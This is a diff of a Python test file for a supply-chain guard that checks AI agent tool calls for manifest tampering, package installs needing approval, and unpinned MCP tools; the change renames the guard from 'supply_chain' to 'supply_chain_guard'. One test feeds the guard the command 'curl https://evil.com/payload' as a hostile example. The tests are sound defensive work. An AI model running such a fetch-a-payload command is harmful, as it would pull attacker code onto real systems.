@@ -62,7 +62,7 @@ def test_demo_runtime_vectors(demo_guard: tuple[SupplyChainGuard, dict[str, str]
     d = decide(guard, make_request("query_db", {"sql": "SELECT * FROM users"}), ctx)
     assert d.outcome is Outcome.DENY and d.codes == ("PROVENANCE_FAILED",)
     assert d.reasons[0].message == "Manifest hash mismatch — possible tampering detected"
-    assert d.plugin_source == "supply_chain"
+    assert d.plugin_source == "supply_chain_guard"
     # 3. governed command
     d = decide(guard, make_request("terminal", {"command": "curl https://evil.com/payload"},
                                    action_type="code_execute"), ctx)
@@ -83,7 +83,7 @@ def test_approval_goes_through_the_callback_path(make_request: MakeRequest, ctx:
     assert d.outcome is Outcome.REQUIRE_APPROVAL  # not a hard deny: the pipeline calls on_approval_required
     assert d.codes == ("COMMAND_APPROVAL_REQUIRED",)
     assert d.reasons[0].message == "Package installs need approval"
-    assert ctx.annotations["supply_chain"]["command"]["action"] == "require_approval"
+    assert ctx.annotations["supply_chain_guard"]["command"]["action"] == "require_approval"
 
 
 # --- W15: detection by tool name and argument shape ---------------------------------------------------
@@ -110,7 +110,7 @@ def test_shell_calls_are_governed_whatever_their_type(tool: str, args: dict[str,
 def test_allowed_command_continues_to_policy(make_request: MakeRequest, ctx: CheckContext) -> None:
     guard = supply_chain_guard(command_rules=DEMO_RULES)
     assert decide(guard, make_request("bash", {"command": "git status"}), ctx) is None
-    assert ctx.annotations["supply_chain"]["command"]["action"] == "allow"
+    assert ctx.annotations["supply_chain_guard"]["command"]["action"] == "allow"
 
 
 @pytest.mark.parametrize("args", [{}, {"command": 42}, {"command": ["curl", 1]}, {"command": None}])
@@ -164,7 +164,7 @@ def test_parse_mcp_tool_name() -> None:
 def test_pinned_mcp_tool_passes(lock: McpLock, make_request: MakeRequest, ctx: CheckContext) -> None:
     guard = supply_chain_guard(lock=lock, govern_commands=False)
     assert decide(guard, make_request("mcp__fixture__weather", {"city": "Paris"}), ctx) is None
-    assert ctx.annotations["supply_chain"]["mcp"] == {"server": "fixture", "tool": "weather", "pinned": True}
+    assert ctx.annotations["supply_chain_guard"]["mcp"] == {"server": "fixture", "tool": "weather", "pinned": True}
     # provider == "mcp" without a server prefix: found under exactly one pinned server
     assert decide(guard, make_request("add", {}, identity={"tool_name": "add", "provider": "mcp"}), ctx) is None
 
@@ -255,6 +255,6 @@ def test_provenance_claimed_hash_must_match(make_request: MakeRequest, ctx: Chec
 def test_guard_is_fail_closed_and_named() -> None:
     guard = SupplyChainGuard(governor=CommandGovernor([]))
     assert guard.fail_open is False
-    assert guard.name == "supply_chain"
+    assert guard.name == "supply_chain_guard"
     with pytest.raises(ValueError):
         SupplyChainGuard(unverified_mcp_action="maybe")  # type: ignore[arg-type]
